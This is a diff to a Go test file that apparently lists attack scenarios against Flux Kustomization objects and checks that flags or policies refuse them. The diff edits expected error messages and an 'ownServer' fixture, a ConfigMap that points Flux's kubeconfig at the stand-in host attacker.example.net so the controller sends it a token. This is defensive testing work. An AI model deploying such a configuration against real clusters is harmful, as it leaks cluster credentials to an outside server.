@@ -91,7 +91,7 @@ func kustomizationAttacks() []attack {
 			name:          "Kustomization: decryption with the controller's own cloud identity",
 			kustomization: `{path: ./encrypted, decryption: {provider: sops}}`,
 			gated:         refusal{byFlag, "'${me}/gitops-reconciler'"},
-			effect:        "failed to create provider access token for the controller", // there is no cloud here
+			effect:        "get identity: get credentials:", // of the controller: there is no cloud here
 			rule:          "flux-decryption-identity",
 			policy:        refusal{byPolicy, "spec.decryption.serviceAccountName: name the account that may use the keys"},
 		},
@@ -136,13 +136,12 @@ func kustomizationAttacks() []attack {
 			with:          ownServer,
 			kustomization: `{kubeConfig: {configMapRef: {name: "${id}"}}}`,
 			steals:        true,
-			gated:         refusal{byFlag, "failed to get server groups"},
+			flags:         refusal{byEnvironment, deadProxy},
 			policy:        refusal{byPolicy, "data.serviceAccountName: name the account"},
-			rule:          "kubeconfig-account",
 		},
 	}
 }
 
 // ownServer has Flux take the attackers' server for an API server, and send it a
 // token of nobody in particular.
-const ownServer = `{apiVersion: v1, kind: ConfigMap, metadata: {name: "${id}", namespace: "${me}"}, data: {provider: generic, address: "https://attacker.example.net/${me}/${id}", audiences: "https://attacker.example.net", ca.crt: "${attackerCA}"}}`
+const ownServer = `{apiVersion: v1, kind: ConfigMap, metadata: {name: "${id}", namespace: "${me}"}, data: {provider: generic, address: "https://attacker.example.net", audiences: "${me}/${id}", ca.crt: "${attackerCA}"}}`
